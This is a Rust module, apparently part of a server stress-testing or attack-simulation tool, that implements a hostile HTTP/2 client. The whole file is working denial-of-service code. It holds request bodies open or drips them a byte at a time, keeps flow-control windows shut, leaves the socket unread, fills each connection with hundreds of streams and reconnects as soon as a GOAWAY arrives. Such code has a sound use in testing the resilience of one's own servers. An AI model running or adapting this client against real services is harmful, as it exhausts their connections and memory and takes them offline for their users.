//! A peer that calls as an attack wants: it never finishes its bodies, never opens its windows or never reads. It opens a
//! new connection and new calls in place of those that end.

use crate::attacks::{Tally, Target};
use crate::http2::{
    self, ACK, DATA, END_HEADERS, END_STREAM, Frame, FrameReader, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE,
    RST_STREAM, RawConnection, SETTINGS, WINDOW_UPDATE,
};
use bytes::Bytes;
use std::collections::HashMap;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::mpsc;
use tokio::time::{Instant, MissedTickBehavior, interval};

/// The time between two looks at the calls that are due.
const TICK: Duration = Duration::from_millis(10);
/// The time between two looks at the calls that are to stay open, but were refused.
const REOPEN: Duration = Duration::from_secs(2);
/// The pause before a connection that has ended is opened again.
const RETRY: Duration = Duration::from_millis(50);
/// The largest frame that every peer must accept.
const FRAME: usize = 16_384;

/// What the connections of an attack do.
#[derive(Clone)]
#[expect(clippy::struct_excessive_bools, reason = "each is a property of the attack that the others do not imply")]
pub(super) struct Calls {
    pub(super) path: &'static str,
    /// The `authorization` of the call with this number; empty for none.
    pub(super) authorization: Arc<dyn Fn(u64) -> String + Send + Sync>,
    /// The bytes of the body, with the prefixes of the messages, for the call with this number.
    pub(super) body: Arc<dyn Fn(u64) -> Bytes + Send + Sync>,
    /// Whether the body ends.
    pub(super) ends: bool,
    /// A byte that is added to each open body once a second.
    pub(super) drips: bool,
    pub(super) connections: usize,
    /// Concurrent calls on each connection.
    pub(super) streams: usize,
    /// The window of each stream.
    pub(super) window: u32,
    /// Whether windows are refilled as answers arrive.
    pub(super) refills: bool,
    /// Whether the socket is read at all. If not, its buffer is small.
    pub(super) reads: bool,
    /// Calls a second on all connections; 0: a call follows at once on the end of another.
    pub(super) rate: f64,
}

impl Calls {
    /// Calls of one method with one message, answered as fast as possible.
    pub(super) fn new(path: &'static str, token: &str, body: Vec<u8>) -> Self {
        let body = Bytes::from(body);
        let authorization = if token.is_empty() { String::new() } else { format!("Bearer {token}") };
        Self {
            path,
            authorization: Arc::new(move |_| authorization.clone()),
            body: Arc::new(move |_| body.clone()),
            ends: true,
            drips: false,
            connections: 4,
            streams: 256,
            window: 0x7fff_ffff,
            refills: true,
            reads: true,
            rate: 0.0,
        }
    }

    /// Whether the calls are made to stay open.
    fn stay_open(&self) -> bool {
        !(self.ends && self.refills)
    }

    /// Starts all connections.
    pub(super) fn start(self, target: &Target, tally: &Arc<Tally>) {
        let calls = Arc::new(self);
        for _ in 0..calls.connections {
            let (calls, target, tally) = (calls.clone(), target.clone(), tally.clone());
            tokio::spawn(async move {
                loop {
                    if let Ok(socket) = connect(&target, !calls.reads).await {
                        tally.opened.fetch_add(1, Ordering::Relaxed);
                        Client::new(socket, calls.clone(), tally.clone()).run().await;
                        tally.closed.fetch_add(1, Ordering::Relaxed);
                    }
                    tokio::time::sleep(RETRY).await;
                }
            });
        }
    }
}

/// Connects from the address of the attacker.
pub(super) async fn connect(target: &Target, small_buffer: bool) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if small_buffer {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.bind((target.local, 0).into())?;
    let socket = socket.connect(target.address).await?;
    socket.set_nodelay(true)?;
    Ok(socket)
}

struct Body {
    rest: Bytes,
    window: i64,
}

/// One connection of an attack, with its calls.
struct Client {
    calls: Arc<Calls>,
    tally: Arc<Tally>,
    reading: FrameReader,
    /// The frames on their way to the task that writes.
    out: mpsc::UnboundedSender<Vec<u8>>,
    streams: HashMap<u32, Body>,
    next: u32,
    window: i64,
    stream_window: i64,
    started: Instant,
    begun: f64,
}

impl Client {
    fn new(socket: TcpStream, calls: Arc<Calls>, tally: Arc<Tally>) -> Self {
        let RawConnection { reading, mut writing } = RawConnection::from(socket);
        let (out, mut frames) = mpsc::unbounded_channel::<Vec<u8>>();
        tokio::spawn(async move {
            while let Some(bytes) = frames.recv().await {
                if writing.write_all(&bytes).await.is_err() {
                    return;
                }
            }
        });
        let mut first = [PREFACE, &http2::settings(&[(2, 0), (INITIAL_WINDOW_SIZE, calls.window)])].concat();
        if calls.refills {
            first.extend(http2::window_update(0, 0x7fff_ffff - 65_535));
        } else {
            // The windows of the streams are the limit.
            first.extend(http2::window_update(0, 1 << 30));
        }
        let _ = out.send(first);
        Self {
            calls,
            tally,
            reading,
            out,
            streams: HashMap::new(),
            next: 1,
            window: 65_535,
            stream_window: 65_535,
            started: Instant::now(),
            begun: 0.0,
        }
    }

    /// Calls until the connection ends.
    async fn run(mut self) {
        let mut tick = interval(if self.calls.stay_open() { REOPEN } else { TICK });
        tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
        let mut drip = interval(Duration::from_secs(1));
        loop {
            tokio::select! {
                frame = self.reading.next(), if self.calls.reads => {
                    let Some(frame) = frame else { return };
                    if !self.take(&frame) {
                        return;
                    }
                }
                _ = tick.tick() => self.fill(),
                _ = drip.tick(), if self.calls.drips => {
                    for body in self.streams.values_mut().filter(|body| body.rest.is_empty()) {
                        body.rest = Bytes::from_static(&[0]);
                    }
                    self.pump();
                }
            }
            if self.out.is_closed() {
                return;
            }
        }
    }

    /// Starts the calls that are missing or due.
    fn fill(&mut self) {
        let connections = crate::tool::float(self.calls.connections);
        let due = self.started.elapsed().as_secs_f64() * self.calls.rate / connections;
        while self.streams.len() < self.calls.streams && (self.calls.rate == 0.0 || self.begun < due) {
            self.begin();
        }
        self.pump();
    }

    fn begin(&mut self) {
        let number = self.tally.calls.fetch_add(1, Ordering::Relaxed);
        self.begun += 1.0;
        let authorization = (self.calls.authorization)(number);
        let block = http2::block(&http2::call(self.calls.path, &authorization));
        let body = (self.calls.body)(number);
        let _ = self.out.send(http2::frame(HEADERS, END_HEADERS, self.next, &block));
        self.streams.insert(self.next, Body { rest: body, window: self.stream_window });
        self.next += 2;
    }

    /// Sends as much of every body as the windows allow.
    fn pump(&mut self) {
        for (stream, body) in &mut self.streams {
            let mut out = Vec::new();
            while !body.rest.is_empty() && self.window > 0 && body.window > 0 {
                let room = usize::try_from(self.window.min(body.window)).unwrap();
                let size = body.rest.len().min(FRAME).min(room);
                let part = body.rest.split_to(size);
                let last = self.calls.ends && body.rest.is_empty();
                out.extend(http2::frame(DATA, if last { END_STREAM } else { 0 }, *stream, &part));
                let size = i64::try_from(size).unwrap();
                (self.window, body.window) = (self.window - size, body.window - size);
            }
            if !out.is_empty() {
                let _ = self.out.send(out);
            }
        }
    }

    /// Processes a frame. False when the connection has ended.
    fn take(&mut self, frame: &Frame) -> bool {
        match frame.kind {
            DATA => {
                self.tally.bytes.fetch_add(u64::try_from(frame.payload.len()).unwrap(), Ordering::Relaxed);
                if self.calls.refills && !frame.payload.is_empty() {
                    let more = u32::try_from(frame.payload.len()).unwrap();
                    let _ = self.out.send(http2::window_update(0, more));
                    let _ = self.out.send(http2::window_update(frame.stream, more));
                }
            }
            RST_STREAM => {
                self.tally.resets.fetch_add(1, Ordering::Relaxed);
                self.streams.remove(&frame.stream);
            }
            HEADERS if frame.has(END_STREAM) => {
                self.tally.answers.fetch_add(1, Ordering::Relaxed);
                self.streams.remove(&frame.stream);
                if self.calls.rate == 0.0 && !self.calls.stay_open() {
                    self.fill();
                }
            }
            SETTINGS if !frame.has(ACK) => {
                let _ = self.out.send(http2::frame(SETTINGS, ACK, 0, &[]));
                for setting in frame.payload.chunks(6).filter(|setting| setting[..2] == [0, 4]) {
                    let window = i64::from(u32::from_be_bytes(setting[2..].try_into().unwrap()));
                    let more = window - self.stream_window;
                    self.streams.values_mut().for_each(|body| body.window += more);
                    self.stream_window = window;
                }
                self.pump();
            }
            PING if !frame.has(ACK) => {
                let _ = self.out.send(http2::frame(PING, ACK, 0, &frame.payload));
            }
            WINDOW_UPDATE => {
                let more = i64::from(u32::from_be_bytes(frame.payload[..].try_into().unwrap()));
                if frame.stream == 0 {
                    self.window += more;
                } else if let Some(body) = self.streams.get_mut(&frame.stream) {
                    body.window += more;
                }
                self.pump();
            }
            // A polite client would finish its calls. This one opens another connection.
            GOAWAY => return false,
            _ => {}
        }
        // The last streams of a connection are not used: the ids would overflow.
        self.next < 0x7fff_0000
    }
}
